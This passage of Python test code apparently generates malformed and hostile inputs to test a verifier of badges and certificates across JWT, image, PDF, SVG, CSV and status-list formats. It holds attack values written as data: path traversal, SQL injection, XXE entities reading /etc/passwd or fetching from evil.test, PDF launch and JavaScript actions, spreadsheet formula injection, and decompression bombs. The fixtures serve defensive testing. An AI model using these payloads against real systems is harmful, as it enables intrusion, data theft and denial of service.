        "header-kid-a-number": headed(kid=1),
        "header-kid-a-path": headed(kid="../../../etc/passwd"),
        "header-kid-a-query": headed(kid="' OR 1=1 --"),
        "header-member-twice": spelt(f'{{"alg":"none","kid":"{JWT_KEY}","alg":"ES256"}}'),
        "header-a-list": spelt("[]"),
        "by-a-stranger": badge_jwt(by=p256("stranger")),
        "by-a-stranger-under-its-name": badge_jwt(by=p256("stranger"), key=f"{ISSUER}#9"),
        "by-the-key-of-badges": badge_jwt(key=BADGE_KEY),
        "signature-of-zeros": with_signature(bytes(64)),
        "signature-of-the-order": with_signature(order.to_bytes(32) * 2),
        "signature-in-der": with_signature(b"\x30\x44" + bytes(68)),
        "signature-of-63-bytes": with_signature(signature[:63]),
        "signature-padded": good + b"==",
        "signature-with-loose-bits": good[:-1] + bytes([good[-1] + 1]),
        "standard-base64": b".".join([head, body, tail.replace(b"-", b"+").replace(b"_", b"/")]),
        "blank-within": good[:90] + b"\n" + good[90:],
        "payload-changed": b".".join(
            [head, badge_jwt(document(CERTIFICATE._replace(name="Eve"))).split(b".")[1], tail]
        ),
        "payload-no-json": spelt(json.dumps({"alg": "ES256", "kid": JWT_KEY}), b"\xff\xfe"),
        "payload-member-twice": spelt(
            json.dumps({"alg": "ES256", "kid": JWT_KEY}), spelled(claims)[:-1] + b', "exp": 4102444800}'
        ),
        "claim-exp-later": badge_jwt(exp=CERTIFICATE.expires_at + 1),
        "claim-exp-a-fraction": badge_jwt(exp=CERTIFICATE.expires_at + 0.0),
        "claim-exp-a-text": badge_jwt(exp=str(CERTIFICATE.expires_at)),
        "claim-exp-missing": badge_jwt(exp=...),
        "claim-nbf-true": badge_jwt(nbf=True),
        "claim-iss-another": badge_jwt(iss=OTHER),
        "claim-sub-another": badge_jwt(sub="urn:uuid:0"),
        "claim-jti-missing": badge_jwt(jti=...),
        "claim-aud": badge_jwt(aud="https://employer.example"),
        "claim-vc": compact(
            {"alg": "ES256", "kid": JWT_KEY}, {"vc": document()}, lambda message: es256(SIGNING, message)
        ),
        "with-a-proof": badge_jwt(proved(document())),
        "revoked": badge_jwt(document(CERTIFICATE._replace(status_index=REVOKED))),
        "expired": badge_jwt(document(CERTIFICATE._replace(expires_at=AT - 1))),
        "of-another-issuer": badge_jwt(document() | {"issuer": OTHER}),
        "a-bitstring-list": badge_jwt(bit_document(packed=bytes(16))),
    }


# --- pictures ---


def matrix(words: str, *, border: int = 4) -> list[list[bool]]:
    """The dark modules of a code, in two segments where it is a certificate's."""
    address, mark, digits = words.partition("#")
    segments = [(address + mark, consts.MODE_BYTE)] + ([(digits, consts.MODE_NUMERIC)] if digits else [])
    code = segno.make(segments, error="m", micro=False)
    return [[bool(module) for module in row] for row in code.matrix_iter(border=border)]


def scaled(rows: list[list[bool]], scale: int) -> list[list[bool]]:
    return [[module for module in row for _ in range(scale)] for row in rows for _ in range(scale)]


def chunk(name: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4) + name + data + zlib.crc32(name + data).to_bytes(4)


def png(rows: list[list[bool]], *chunks: bytes, dark: int = 0, after: bytes = b"") -> bytes:
    """One bit for each point, not compressed; `chunks` stand right after the header."""
    width, height = len(rows[0]), len(rows)
    lines = b""
    for row in rows:
        points = "".join("10"[module] if dark == 0 else "01"[module] for module in row)
        points += "0" * (-width % 8)
        lines += b"\0" + int(points, 2).to_bytes(len(points) // 8)
    header = chunk(b"IHDR", width.to_bytes(4) + height.to_bytes(4) + b"\x01\0\0\0\0")
    return b"".join([PNG, header, *chunks, chunk(b"IDAT", zlibbed(lines)), chunk(b"IEND", b""), after])


PNG: Final = b"\x89PNG\r\n\x1a\n"
BAKED: Final = b"openbadgecredential\0"
BLANK: Final = [[False] * 200] * 200


def drawn(words: str, scale: int = 2) -> list[list[bool]]:
    return scaled(matrix(words), scale)


def beside(*pictures: list[list[bool]]) -> list[list[bool]]:
    height = max(map(len, pictures))
    filled = [[*picture, *[[False] * len(picture[0])] * (height - len(picture))] for picture in pictures]
    return [[module for row in rows for module in row] for rows in zip(*filled, strict=True)]


def itxt(content: bytes, *, keyword: bytes = BAKED, flags: bytes = b"\0\0") -> bytes:
    return chunk(b"iTXt", keyword + flags + b"\0\0" + content)


def sized(width: int, height: int, depth: int = 8, colour: int = 0) -> bytes:
    """A picture that claims these sides and holds nearly nothing."""
    header = chunk(b"IHDR", width.to_bytes(4) + height.to_bytes(4) + bytes([depth, colour, 0, 0, 0]))
    return PNG + header + chunk(b"IDAT", zlibbed(bytes(1_000))) + chunk(b"IEND", b"")


def pngs() -> dict[str, bytes]:
    good = drawn(text())
    other = CERTIFICATE._replace(name="Another Name", cti=bytes(15) + b"\1")
    plain = png(good)
    baked = png(good, itxt(badge()))
    return {
        "code": plain,
        "code-and-badge": baked,
        "code-and-jwt": png(good, itxt(badge_jwt())),
        "badge-alone": png(BLANK, itxt(badge())),
        "code-turned": png([list(row) for row in zip(*good[::-1], strict=True)]),
        "code-mirrored": png([row[::-1] for row in good]),
        "code-light-on-dark": png(good, dark=1),
        "code-beside-another": png(beside(good, drawn("https://example.org/"))),
        "code-followed-by-more": png(good, after=b"%PDF-1.7\n<html>" + bytes(500)),
        "code-revoked": png(drawn(text(status_index=REVOKED))),
        "code-of-a-stranger": png(drawn(text(by=STRANGER))),
        "no-code": png(BLANK),
        "another-code": png(drawn("https://example.org/certificate/1")),
        "code-of-a-payment": png(drawn("bitcoin:175tWpb8K1S7NmH4Zx6rewF9WQrcZv245W")),
        "two-codes": png(beside(good, drawn(text(other)))),
        "code-cut-in-half": png([row[: len(row) // 2] for row in good]),
        "badge-of-another": png(good, itxt(badge(document(other)))),
        "badge-changed": png(good, itxt(badge().replace(b"O\\u2019Brien", b"O\\u2019Briem"))),
        "badge-revoked": png(good, itxt(badge(document(CERTIFICATE._replace(status_index=REVOKED))))),
        "badge-twice": png(good, itxt(badge()), itxt(badge())),
        "badge-compressed": png(good, itxt(zlibbed(badge()), flags=b"\1\0")),
        "badge-of-another-method": png(good, itxt(badge(), flags=b"\0\1")),
        "badge-with-a-wrong-sum": baked.replace(b"Siobh", b"Siobn"),
        "badge-cut-short": png(good, chunk(b"iTXt", BAKED + b"\0")),
        "badge-empty": png(good, itxt(b"")),
        "badge-no-json": png(good, itxt(b"https://evil.test/assertion.json")),
        "badge-in-ztxt": png(good, chunk(b"zTXt", BAKED + b"\0" + zlibbed(badge()))),
        "badge-in-text": png(good, chunk(b"tEXt", BAKED + badge())),
        "badge-of-version-2": png(good, itxt(b"https://evil.test/1.json", keyword=b"openbadges\0")),
        "badge-keyword-in-capitals": png(good, itxt(badge(), keyword=b"OpenBadgeCredential\0")),
        "chunk-longer-than-the-file": plain[:33] + b"\x7f\xff\xff\xffiTXt" + BAKED + b"\0\0\0\0{}",
        "chunk-of-4-gigabytes": plain[:33] + b"\xff\xff\xff\xffiTXt" + BAKED + b"\0\0\0\0{}",
        "header-alone": PNG,
        "header-twice": PNG + plain[8:33] + plain[8:],
        "cut-short": plain[:200],
        "no-end": plain[:-12],
        "points-missing": PNG + plain[8:33] + chunk(b"IEND", b""),
        "points-not-deflated": PNG + plain[8:33] + chunk(b"IDAT", b"\xff" * 500) + chunk(b"IEND", b""),
        "sum-of-the-header-wrong": plain[:29] + b"\0\0\0\0" + plain[33:],
        "sides-of-0": sized(0, 0),
        "sides-of-2-to-31": sized(2**31 - 1, 2**31 - 1),
        "sides-too-large": sized(8_000, 8_000),
        "one-line-of-70000": sized(70_000, 1),
        "depth-unknown": sized(100, 100, 7),
        "palette-missing": sized(100, 100, 8, 3),
        "sides-of-16-bit-colours": sized(4_000, 4_000, 16, 6),
        "called-png-but-gif": b"GIF89a" + bytes(50),
        "called-png-but-webp": b"RIFF\x24\0\0\0WEBPVP8 " + bytes(24),
        "called-png-but-bmp": b"BM" + bytes(80),
    }


def jpegs() -> dict[str, bytes]:
    def saved(rows: list[list[bool]], **how: Any) -> bytes:
        picture = Image.new("L", (len(rows[0]), len(rows)))
        picture.putdata([0 if module else 255 for row in rows for module in row])
        out = io.BytesIO()
        picture.save(out, "JPEG", **({"quality": 60} | how))
        return out.getvalue()

    good = saved(drawn(text()))
    marker = good.index(b"\xff\xc0")
    huge = good[: marker + 5] + b"\xff\xff\xff\xff" + good[marker + 9 :]
    comment = b"\xff\xfe" + (2 + len(badge())).to_bytes(2) + badge()
    return {
        "code": good,
        "code-poor": saved(drawn(text(), 4), quality=5),
        "code-progressive": saved(drawn(text()), progressive=True),
        "code-followed-by-more": good + b"PK\x03\x04" + bytes(200),
        "code-with-a-comment": good[:2] + comment + good[2:],
        "no-code": saved(BLANK),
        "another-code": saved(drawn("https://example.org/")),
        "code-too-small": saved(matrix(text()), quality=5),
        "header-alone": b"\xff\xd8\xff",
        "end-at-once": b"\xff\xd8\xff\xd9",
        "cut-short": good[:300],
        "cut-in-the-middle": good[: len(good) // 2],
        "sides-of-65535": huge,
        "segment-longer-than-the-file": good[:2] + b"\xff\xe1\xff\xffExif\0\0",
        "segment-of-0": good[:2] + b"\xff\xe1\0\0" + good[2:],
        "exif-that-points-at-itself": good[:2]
        + b"\xff\xe1\0\x22Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"
        + good[2:],
        "tables-missing": good.replace(b"\xff\xdb", b"\xff\xec"),
    }


# --- PDF ---


def pdf(*objects: bytes, root: int = 1, trailer: bytes = b"") -> bytes:
    """Objects 1, 2, ... with a table that says where they are."""
    body, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Root %d 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (root, len(objects) + 1, trailer, len(body))
    return b"%sxref\n0 %d\n0000000000 65535 f \n%s%s" % (body, len(objects) + 1, table, end)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), extra, data)


def picture_of(rows: list[list[bool]]) -> bytes:
    lines = b""
    for row in rows:
        points = "".join("10"[module] for module in row) + "0" * (-len(row) % 8)
        lines += int(points, 2).to_bytes(len(points) // 8)
    said = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 1/ColorSpace/DeviceGray"
    return stream(lines, said % (len(rows[0]), len(rows)))


def paper(
    rows: list[list[bool]] | None = None,
    attached: list[tuple[str, bytes]] = (),  # type: ignore[assignment]
    *,
    box: bytes = b"0 0 612 792",
    catalog: bytes = b"",
    content: bytes | None = None,
    page: bytes = b"",
    kids: bytes = b"3 0 R",
) -> bytes:
    """One page, the picture on it, and files attached; each of those is a name and a whole stream object."""
    names = b"".join(
        b"(%s)<</Type/Filespec/F(%s)/UF(%s)/EF<</F %d 0 R>>>>" % (name.encode(), name.encode(), name.encode(), number)
        for number, (name, _) in enumerate(attached, 6)
    )
    embedded = b"/Names<</EmbeddedFiles<</Names[%s]>>>>" % names if attached else b""
    draw = b"q 200 0 0 200 100 400 cm /I Do Q" if rows else b""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%s%s>>" % (embedded, catalog),
        b"<</Type/Pages/Kids[%s]/Count 1>>" % kids,
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>%s>>" % (box, page),
        stream(draw if content is None else content),
        picture_of(rows or [[False] * 8]),
        *(whole for _, whole in attached),
    )


def two_pages(*drawn_at: tuple[list[list[bool]], int]) -> bytes:
    """A picture on each, as large as it is given, in points."""
    pages, rest = [], []
    for number, (rows, side) in enumerate(drawn_at):
        at = 5 + 2 * number
        pages.append(
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents %d 0 R/Resources<</XObject<</I %d 0 R>>>>>>"
            % (at, at + 1)
        )
        rest += [stream(b"q %d 0 0 %d 100 400 cm /I Do Q" % (side, side)), picture_of(rows)]
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>", *pages, *rest)


def file(content: bytes, extra: bytes = b"") -> bytes:
    return stream(content, b"/Type/EmbeddedFile" + extra)


def pdfs() -> dict[str, bytes]:
    good, said = drawn(text(), 2), text().encode()
    other = CERTIFICATE._replace(name="Another Name", cti=bytes(15) + b"\1")
    qr_txt = ("qr.txt", file(said))
    attached = paper(attached=[qr_txt])
    return {
        "text-attached": attached,
        "text-and-badge-attached": paper(attached=[("credential.json", file(badge())), qr_txt]),
        "badge-attached": paper(attached=[("credential.json", file(badge()))]),
        "code-drawn": paper(good),
        "code-drawn-and-badge": paper(good, [("credential.json", file(badge()))]),
        "text-deflated": paper(attached=[("qr.txt", file(zlibbed(said), b"/Filter/FlateDecode"))]),
        "text-in-hexadecimal": paper(
            attached=[("qr.txt", file(said.hex().encode() + b">", b"/Filter/ASCIIHexDecode"))]
        ),
        "text-after-white-space": paper(attached=[("qr.txt", file(b"\xef\xbb\xbf\n" + said + b"\n"))]),
        "with-a-script": paper(good, catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "with-a-launch": paper(good, catalog=b"/OpenAction<</S/Launch/F(/bin/sh)>>"),
        "with-another-attachment": paper(attached=[("invoice.exe", file(b"MZ" + bytes(99))), qr_txt]),
        "length-wrong": attached.replace(b"/Length %d" % len(said), b"/Length 5"),
        "text-of-a-letter": paper(attached=[("qr.txt", file(text(typ=qr.LETTER_TYP).encode()))]),
        "text-changed": paper(attached=[("qr.txt", file(text(by=STRANGER).encode()))]),
        "text-empty": paper(good, [("qr.txt", file(b""))]),
        "text-no-text": paper(good, [("qr.txt", file(b"\xff\xfe\x00"))]),
        "text-twice": paper(attached=[qr_txt, ("qr.txt", file(b"another"))]),
        "text-and-badge-of-two": paper(attached=[("credential.json", file(badge(document(other)))), qr_txt]),
        "badge-no-json": paper(attached=[("credential.json", file(b"{")), qr_txt]),
        "badge-of-2-mebibytes": paper(attached=[("credential.json", file(b"\0" * 100, b"/DL 2097152")), qr_txt]),
        "proof-no-proof": paper(attached=[("proof.tlog-proof", file(b"nothing")), qr_txt]),
        "no-code": paper(),
        "another-code": paper(drawn("https://example.org/", 4)),
        "codes-on-two-pages": two_pages((good, 200), (drawn(text(other)), 200)),
        "codes-on-two-pages-one-small": two_pages((good, 200), (drawn(text(other)), 52)),
        "codes-on-two-pages-the-first-small": two_pages((good, 52), (drawn(text(other)), 200)),
        "code-small": two_pages((good, 52), (BLANK, 200)),
        "code-on-two-pages": two_pages((good, 52), (good, 200)),
        "two-codes": paper(beside(good, drawn(text(other))), content=b"q 400 0 0 200 100 400 cm /I Do Q"),
        "header-alone": b"%PDF-1.7",
        "no-pdf": b"%PDF-1.7\n" + b"1 0 obj\n" * 1_000,
        "cut-short": paper(good)[:600],
        "no-table": attached.partition(b"xref")[0],
        "table-far-away": attached.replace(b"startxref\n", b"startxref\n9999999999"),
        "table-of-itself": pdf(b"<<>>", trailer=b"/Prev 9/XRefStm 9"),
        "encrypted": pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[]/Count 0>>",
            b"<</Filter/Standard/V 2/R 3/Length 128/P -4/O<%s>/U<%s>>>" % (b"00" * 32, b"00" * 32),
            trailer=b"/Encrypt 3 0 R/ID[<00><00>]",
        ),
        "pages-of-themselves": paper(kids=b"2 0 R"),
        "pages-missing": pdf(b"<</Type/Catalog>>"),
        "page-as-large-as-a-house": paper(good, box=b"0 0 1000000 1000000"),
        "page-as-thin-as-a-thread": paper(good, box=b"0 0 100000000 0.01"),
        "page-of-no-size": paper(good, box=b"0 0 0 0"),
        "names-of-themselves": paper(catalog=b"/Names<</EmbeddedFiles 1 0 R>>/Kids[1 0 R]"),
        "arrays-5000-deep": paper(good, catalog=b"/X" + b"[" * 5_000 + b"]" * 5_000),
        "filters-unknown": paper(attached=[("qr.txt", file(said, b"/Filter/NoSuchDecode"))]),
        "filters-100": paper(attached=[("qr.txt", file(zlibbed(said), b"/Filter[" + b"/FlateDecode" * 100 + b"]"))]),
        "form-of-itself": paper(content=b"/I Do", page=b"/Resources<</XObject<</I 3 0 R>>>>"),
    }


# --- SVG ---

_SPACES: Final = 'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'


def svg(inside: str, *, before: str = '<?xml version="1.0" encoding="UTF-8"?>\n', spaces: str = _SPACES) -> bytes:
    return f'{before}<svg {spaces} width="9" height="9">{inside}<path d="M0 0"/></svg>\n'.encode()


def element(one: bytes) -> str:
    return f"<openbadges:credential><![CDATA[{one.decode()}]]></openbadges:credential>"


def svgs() -> dict[str, bytes]:
    held = element(badge())
    escaped = badge().decode().replace('"', "&quot;")
    changed = element(badge().replace(b"O\\u2019Brien", b"O\\u2019Briem"))

    def declared(kind: str, inside: str) -> bytes:
        return svg(inside, before=f"<!DOCTYPE svg {kind}>\n")

    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return {
        "badge": svg(held),
        "badge-as-jwt": svg(f'<openbadges:credential verify="{badge_jwt().decode()}"/>'),
        "badge-escaped": svg(f"<openbadges:credential>{escaped}</openbadges:credential>"),
        "badge-in-pieces": svg(held.replace("credentialSubject", "credential]]><![CDATA[Subject")),
        "badge-under-another-prefix": svg(
            held.replace("openbadges:", "ob:"), spaces=_SPACES.replace("openbadges=", "ob=")
        ),
        "badge-within-a-group": svg(f"<g><g>{held}</g></g>"),
        "with-a-script": svg(held + "<script>alert(1)</script>"),
        "with-a-comment": svg("<!-- - -->" + held),
        "byte-order-mark": b"\xef\xbb\xbf" + svg(held, before=""),
        "badge-changed": svg(changed),
        "badge-revoked": svg(element(badge(document(CERTIFICATE._replace(status_index=REVOKED))))),
        "no-badge": svg(""),
        "badge-empty": svg("<openbadges:credential/>"),
        "badge-twice": svg(held * 2),
        "badge-in-a-comment": svg(f"<!-- {held} -->"),
        "badge-with-an-element": svg(held.replace("<![CDATA[", "<g/><![CDATA[")),
        "badge-of-version-2": svg(held, spaces=_SPACES.replace("v3p0", "v2p0")),
        "badge-in-no-space": svg(held.replace("openbadges:", "")),
        "badge-text-and-jwt": svg(held.replace("credential>", f'credential verify="{badge_jwt().decode()}">', 1)),
        "doctype": declared("", held),
        "entities-a-billion": declared(f'[<!ENTITY l0 "ha">{laughs}]', "&l9;"),
        "entity-from-a-file": declared('[<!ENTITY a SYSTEM "file:///etc/passwd">]', "&a;"),
        "entity-from-an-address": declared('[<!ENTITY % a SYSTEM "http://evil.test/a.dtd"> %a;]', held),
        "entity-unknown": svg("&lol;"),
        "deep": svg("<g>" * 500 + "</g>" * 500),
        "not-closed": svg("<g>" + held),
        "cut-short": svg(held)[:700],
        "svg-within-svg": svg(f'<svg xmlns="http://www.w3.org/2000/svg">{held}</svg>'),
        "html": b"<!doctype html><html><body>" + held.encode() + b"</body></html>",
        "html-without-doctype": b"<html>" + held.encode() + b"</html>",
        "utf-16": svg(held).decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        "said-to-be-latin-1": svg(held, before='<?xml version="1.0" encoding="ISO-8859-1"?>'),
        "said-to-be-nonsense": svg(held, before='<?xml version="1.0" encoding="nonsense"?>'),
        "not-utf-8": svg(held).replace(b"M0 0", b"M0\xff0"),
        "attribute-twice": svg(held + '<g id="a" id="b"/>'),
        "zipped": gzipped(svg(held)),
        "less-than-alone": b"<",
        "nul-within": svg(held).replace(b"M0 0", b"M0\x000"),
        "two-roots": svg(held) + svg(held, before=""),
    }


# --- status lists: what a good certificate, or badge, is found to be by them ---


def lists() -> dict[str, bytes]:
    packed = bytes(SMALL // 4)
    good = token_list()
    bits = spelled(proved(bit_document()))

    def holding(compressed: Any, **more: Any) -> bytes:
        return token_list(list={"bits": 2, "lst": compressed} | more)

    def of_all(value: int) -> bytes:
        return token_list(bytes([value]) * (SMALL // 4))

    def bit(whole: dict[str, Any], **by: Any) -> bytes:
        return spelled(proved(whole, **by))

    def encoded(value: Any) -> bytes:
        return bit(with_subject(bit_document(packed=b""), encodedList=value))

    raw = bytes(status.SIZE // 8)
    return {
        "token-good": good,
        "token-all-revoked": of_all(0b01010101),
        "token-all-suspended": of_all(0b10101010),
        "token-all-superseded": of_all(0b11111111),
        "token-of-1-bit": token_list(list={"bits": 1, "lst": zlibbed(b"\xff" * 1_024)}),
        "token-of-4-bits-unknown": token_list(list={"bits": 4, "lst": zlibbed(b"\x77" * 4_096)}),
        "token-of-8-bits-unknown": token_list(list={"bits": 8, "lst": zlibbed(b"\xff" * 8_192)}),
        "token-of-3-bits": token_list(list={"bits": 3, "lst": zlibbed(packed)}),
        "token-of-0-bits": token_list(list={"bits": 0, "lst": zlibbed(packed)}),
        "token-too-short": holding(zlibbed(bytes(100))),
        "token-of-nothing": holding(zlibbed(b"")),
        "token-empty": holding(b""),
        "token-not-compressed": holding(packed),
        "token-gzip": holding(gzipped(packed)),
        "token-raw-deflate": holding(deflated(packed)),
        "token-stream-cut-short": holding(zlibbed(packed)[:-5]),
        "token-stream-with-a-wrong-sum": holding(zlibbed(packed)[:-4] + b"\0\0\0\1"),
        "token-stream-followed": holding(zlibbed(packed) + b"\0"),
        "token-stream-twice": holding(zlibbed(packed) * 2),
        "token-list-as-text": holding("AAAA"),
        "token-list-with-more": holding(zlibbed(packed), aggregation_uri="https://evil.test/"),
        "token-too-old": token_list(iat=AT - 3 * DAY, exp=AT - 1),
        "token-made-tomorrow": token_list(iat=AT + DAY, exp=AT + 3 * DAY),
        "token-that-never-ends": token_list(exp=2**64 - 1),
        "token-of-another-uri": token_list(sub=f"https://{HOST}/s/2"),
        "token-without-ttl": token_list(ttl=...),
        "token-with-a-claim-more": token_list(**{"1": ISSUER}),
        "token-iat-as-text": token_list(iat="2026-11-22"),
        "token-by-a-stranger": token_list(by=STRANGER),
        "token-by-the-key-of-certificates": token_list(by=ISSUING),
        "token-by-another-issuer": token_list(by=OTHERS),
        "token-of-the-type-of-notes": token_list(typ=status.NOTES_TYP),
        "token-of-the-type-of-a-code": token_list(typ=qr.TYP),
        "token-changed": good.replace(b"\x01\x9f\x59", b"\x01\x9f\x58")
        if b"\x01\x9f\x59" in good
        else good[:-1] + bytes([good[-1] ^ 1]),
        "token-cut-short": good[:-70],
        "token-followed": good + b"\0",
        "token-as-hexadecimal": good.hex().encode(),
        "notes-in-its-place": noted({1: TRANSFERRED}),
        "empty": b"",
        "bits-good": bits,
        "bits-revoked": bit(bit_document(revoked=(CERTIFICATE.status_index,))),
        "bits-as-jwt": badge_jwt(bit_document()),
        "bits-jwt-revoked": badge_jwt(bit_document(revoked=(CERTIFICATE.status_index,))),
        "bits-too-short": bit(bit_document(packed=raw[:-1])),
        "bits-too-old": bit(bit_document(packed=raw, validUntil=written(AT - 1))),
        "bits-made-tomorrow": bit(bit_document(validFrom=written(AT + DAY), validUntil=written(AT + 2 * DAY))),
        "bits-of-another-uri": bit(bit_document(id=f"https://{HOST}/status/revocation/2")),
        "bits-of-suspension": bit(with_subject(bit_document(), statusPurpose="suspension")),
        "bits-of-two-purposes": bit(with_subject(bit_document(), statusPurpose=["revocation", "suspension"])),
        "bits-of-a-message": bit(with_subject(bit_document(), statusSize=2)),
        "bits-of-another-context": bit(bit_document() | {"@context": [badges.OB_CONTEXT]}),
        "bits-by-a-stranger": bit(bit_document(), by=STRANGER),
        "bits-by-another-issuer": bit(bit_document(), by=OTHERS, key=f"{OTHER}#1"),
        "bits-by-a-withdrawn-key": bit(bit_document(), by=WITHDRAWN, key=f"{ISSUER}#2"),
        "bits-changed": bits.replace(b"QAAA", b"AAAA", 1) if b"QAAA" in bits else bits.replace(b"AAAA", b"AAAB", 1),
        "bits-empty": encoded("u"),
        "bits-not-gzip": encoded("u" + b64(zlibbed(raw))),
        "bits-in-base58": encoded(multibase.encode(gzipped(bytes(20)))),
        "bits-without-multibase": encoded(b64(gzipped(raw))),
        "bits-stream-followed": encoded("u" + b64(gzipped(raw) + b"\0")),
        "bits-stream-twice": encoded("u" + b64(gzipped(raw) * 2)),
        "bits-a-list": encoded(["u"]),
        "bits-twice": bits[:-1] + b', "id": "x"}',
    }


# --- lists of people: what an employer gives to be checked, and what an association gives to be recorded ---

ROSTER: Final = {"number": text(), "name": CERTIFICATE.name}


def lines(*rows: Iterable[str], end: str = "\r\n", by: str = ",") -> bytes:
    return "".join(by.join(cells) + end for cells in rows).encode()


def tables(good: dict[str, str], column: str) -> dict[str, bytes]:
    """One good row, and what is wrong with it or with the file; `column` is the one of the odd cells."""
    header, row = list(good), list(good.values())
    whole = lines(header, row)

    def holding(cell: bytes | str) -> bytes:
        cell = cell if isinstance(cell, bytes) else cell.encode()
        return lines(header, [value if name != column else "~" for name, value in good.items()]).replace(b"~", cell)

    return {
        "good": whole,
        "byte-order-mark": b"\xef\xbb\xbf" + whole,
        "line-feeds": lines(header, row, end="\n"),
        "line-ends-mixed": lines(header) + lines([""], row, end="\n"),
        "no-last-line-end": whole.rstrip(),
        "rows-twice": lines(header, row, row),
        "two-byte-order-marks": b"\xef\xbb\xbf" * 2 + whole,
        "empty": b"",
        "white-space-alone": b" \r\n\t\r\n",
        "zero-bytes": bytes(64),
        "header-alone": lines(header),
        "header-as-a-row": lines(header, header),
        "column-missing": lines(header[:-1], row[:-1]),
        "column-twice": lines([*header, header[0]], [*row, row[0]]),
        "utf-16": whole.decode().encode("utf-16"),
        "utf-16-without-mark": whole.decode().encode("utf-16-be"),
        "latin-1": holding(b"Jos\xe9"),
        "no-utf-8": holding(b"Ann\xff\xfe"),
        "surrogate-in-utf-8": holding(b"Ann\xed\xa0\x80"),
        "overlong-utf-8": holding(b"Ann\xc0\xaf"),
        "nul-in-a-cell": holding("Ann\0Lee"),
        "quote-never-closed": holding('"Ann'),
        "quote-then-more": holding('"Ann" Lee'),
        "cell-more": lines(header, [*row, "more"]),
        "cell-less": lines(header, row[:-1]),
        "formula": holding("=cmd|'/c calc'!A1"),
        "formula-in-quotes": holding('"=HYPERLINK(""http://evil.test/"")"'),
        "formula-after-a-blank": holding(" =1+1"),
        "formula-with-an-at": holding('"@SUM(1,1)"'),
        "formula-with-a-minus": holding("-1+1"),
        "lines-in-a-cell": holding('"Ann\nLee"'),
        "right-to-left-override": holding("nnA\u202eeeL"),
        "terminal-escape": holding("Ann\x1b[2J"),
        "surrogate-as-escape": holding("Ann \\ud800"),
        "markup": holding("<script>alert(1)</script>"),
        "cell-empty": holding(""),
        "a-spreadsheet": b"PK\x03\x04\x14\0\6\0" + bytes(range(256)),
        "a-pdf": paper(),
        "html": b"<html><table><tr><td>number</td><td>name</td></tr></table></html>",
    }


def large_tables(good: dict[str, str], column: str) -> Iterator[tuple[str, bytes]]:
    """Too large to keep."""
    header, row = list(good), list(good.values())
    long = ["x" * 1_000_000 if name == column else value for name, value in good.items()]
    yield "cell-of-1-megabyte", lines(header, long)
    yield "quote-alone-before-2000-rows", lines(header, ['"' + row[0], *row[1:]]) + lines(row) * 2_000
    yield "6000-rows", lines(header, *[row] * 6_000)
    yield "row-of-100000-columns", lines(header, row, ["x"] * 100_000)
    yield "100000-blank-lines", lines(header, row) + b"\r\n" * 100_000


# --- what is too large to keep, or packs too well ---


def bombs() -> Iterator[tuple[str, bytes]]:
    """Made when the tests run: their compressed bytes differ between builds of zlib, and nobody compares them."""
    zeros = zlib.compress(bytes(50_000_000), 9)
    raw = zlib.compressobj(9, wbits=31)
    gzip_zeros = raw.compress(bytes(50_000_000)) + raw.flush()
    good = drawn(text())
    yield "qr/10-megabytes", b"https://registry.example/v1#" + b"1" * 10_000_000
    yield "qr/40-megabytes", b"1" * 40_000_000
    yield "badge/30-megabytes", badge()[:-1] + b', "description": "' + b"x" * 30_000_000 + b'"}'
    yield "badge/just-longer-than-64-kibibytes", badge(document(description="x" * (1 << 16)))
    yield "badge/proof-value-of-60-kilobytes", badge_with_proof_value("z" + "2" * 60_000)
    yield "badge/nested-a-million-deep", b'{"a":' * 1_000_000
    yield "badge/arrays-10-million-deep", b'{"a":' + b"[" * 10_000_000
    yield "jwt/30-megabytes", b"ey" + b"A" * 10_000_000 + b"." + b"A" * 10_000_000 + b"." + b"A" * 10_000_000
    yield "svg/30-megabytes", svg("<path/>" * 4_000_000)
    yield "svg/attribute-of-900-kilobytes", svg(f'<g id="{"x" * 900_000}"/>' + element(badge()))
    yield "png/baked-badge-that-inflates", png(good, itxt(zeros, flags=b"\1\0"))
    yield "png/ztxt-that-inflates", png(good, chunk(b"zTXt", b"Comment\0\0" + zeros))
    yield "png/itxt-that-inflates", png(good, itxt(zeros, keyword=b"Comment\0", flags=b"\1\0"))
    yield "png/profile-that-inflates", png(good, chunk(b"iCCP", b"icc\0\0" + zeros))
    yield "png/10000-texts", png(good, *[chunk(b"tEXt", b"Comment\0" + b"x" * 100)] * 10_000)
    yield "png/points-that-inflate", PNG + sized(4_400, 4_500, 8, 6)[8:33] + chunk(b"IDAT", zeros) + chunk(b"IEND", b"")
    yield "png/small-with-points-that-inflate", PNG + sized(10, 10)[8:33] + chunk(b"IDAT", zeros) + chunk(b"IEND", b"")
    yield "pdf/text-that-inflates", paper(good, [("qr.txt", file(zeros, b"/Filter/FlateDecode"))])
    yield "pdf/badge-that-inflates", paper(good, [("credential.json", file(zeros, b"/Filter/FlateDecode"))])
    yield (
        "pdf/badge-that-inflates-twice",
        paper(good, [("credential.json", file(zlib.compress(zeros), b"/Filter[/FlateDecode/FlateDecode]"))]),
    )
    yield (
        "pdf/another-attachment-that-inflates",
        paper(attached=[("other.bin", file(zeros, b"/Filter/FlateDecode")), ("qr.txt", file(text().encode()))]),
